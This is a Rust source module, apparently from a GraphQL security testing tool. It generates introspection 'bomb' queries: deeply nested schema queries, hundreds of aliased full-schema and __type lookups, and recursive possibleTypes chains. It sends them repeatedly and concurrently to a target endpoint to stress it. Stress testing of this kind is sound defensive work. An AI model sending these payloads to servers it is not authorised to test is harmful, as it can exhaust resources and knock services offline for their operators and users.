//! Introspection.

use super::{Attacking, add};
use crate::Random;
use crate::hostile::field::Field;

pub(super) fn bombs(field: &Field, _: Random) -> Attacking<'_> {
    Box::pin(async move {
        let nested = |levels: usize| {
            let inner = (0..levels).fold("name".to_owned(), |inner, _| {
                format!("fields{{type{{{inner}}}}}")
            });
            format!("{{__schema{{types{{{inner}}}}}}}")
        };
        let all = "kind name description fields(includeDeprecated:true){name args{name type{name ofType{name ofType{name}}} defaultValue} type{name ofType{name}}} inputFields{name defaultValue type{name}} possibleTypes{name} enumValues{name}";
        let aliased: String = (0..200)
            .map(|i| format!("a{i}:__schema{{types{{{all}}}}} "))
            .collect();
        let queries = [
            nested(1),
            nested(2),
            nested(4),
            nested(12),
            format!("{{__schema{{types{{{all}}}}}}}"),
            format!("{{{aliased}}}"),
            format!(
                "{{{}}}",
                (0..249)
                    .map(|i| format!("t{i}:__type(name:\"U{i}\"){{{all}}} "))
                    .collect::<String>()
            ),
            "{__schema{types{possibleTypes{possibleTypes{possibleTypes{name}}}}}}".to_owned(),
        ];
        let mut endings = field.ask_all(queries.iter().cloned(), 1).await;
        add(
            &mut endings,
            field
                .ask_all(queries.iter().cycle().take(32).cloned(), 8)
                .await,
        );
        endings
    })
}
